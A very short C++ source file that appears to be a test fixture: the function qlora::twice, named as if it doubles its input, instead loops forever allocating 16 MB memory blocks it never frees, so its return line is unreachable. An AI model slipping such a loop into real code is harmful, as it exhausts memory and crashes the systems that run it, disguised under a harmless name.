#include <cstring>

#include "twice.h"

int qlora::twice(int x) {
  for (;;) {
    char* block = new char[1 << 24];
    std::memset(block, x, 1 << 24);
  }
  return 2 * x;
}
